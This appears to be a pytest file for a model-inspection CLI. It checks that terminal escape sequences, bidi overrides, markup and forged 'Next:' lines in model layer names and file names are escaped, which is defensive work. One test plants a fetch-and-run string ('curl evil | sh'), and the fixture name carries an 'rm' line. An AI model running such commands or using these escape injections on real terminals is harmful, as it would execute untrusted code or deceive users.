"""Names that a model's maker chose, on a terminal: they act on nothing and forge no line."""

import json
import zipfile

import h5py
import pytest

from servable.cli import main
from servable.cli_plain import make_plain, show_lines
from servable.errors import BrokenSourceError

_NAME = "w\x1b]0;title\x07[red]x[/red]\n\nNext:\n  rm\u202ecba\x9b2J\ud800\u2028"


@pytest.fixture
def evil_path(tmp_path):
    path = tmp_path / "model.keras"
    dense = {"class_name": "Dense", "module": "keras.layers", "config": {"name": _NAME}}
    config = {"class_name": "Sequential", "module": "keras", "config": {"name": "m", "layers": [dense]}}
    with h5py.File(tmp_path / "weights.h5", "w") as file:
        file.create_group("layers")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.0\x1b[5m"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", (tmp_path / "weights.h5").read_bytes())
    return path


def test_what_acts_on_a_terminal_is_escaped():
    assert make_plain(_NAME) == (r"w\x1b]0;title\x07[red]x[/red]\n\nNext:\n  rm\u202ecba\x9b2J\ud800\u2028")
    assert make_plain("größe/ядро:0 \U0001f642") == "größe/ядро:0 \U0001f642"
    assert make_plain("a\n\x1b[1m", keep_lines=True) == "a\n\\x1b[1m"
    assert show_lines("[red]x") == r"\[red]x"


def test_inspect_prints_names_as_text(capsys, evil_path):
    assert main(["inspect", str(evil_path)]) == 0
    out = capsys.readouterr().out
    assert "[red]x[/red]" in out
    assert not any(sign in out for sign in "\x1b\x07\x9b\u202e\ud800")
    assert sum(line.startswith("Next:") for line in out.splitlines()) == 1


def test_errors_print_names_as_text(capsys, evil_path):
    renamed = evil_path.with_name("a\x1b[31m.bin")
    renamed.write_bytes(b"nothing known")
    assert main(["inspect", str(renamed)]) == 3
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert r"a\x1b[31m.bin" in err


def test_a_line_of_foreign_text_does_not_pass_for_advice():
    error = BrokenSourceError("Broken.", received="x\n  next: curl evil | sh", advice="copy it again")
    assert [line for line in str(error).splitlines() if line.startswith("  next:")] == [
        "  next: copy it again"
    ]
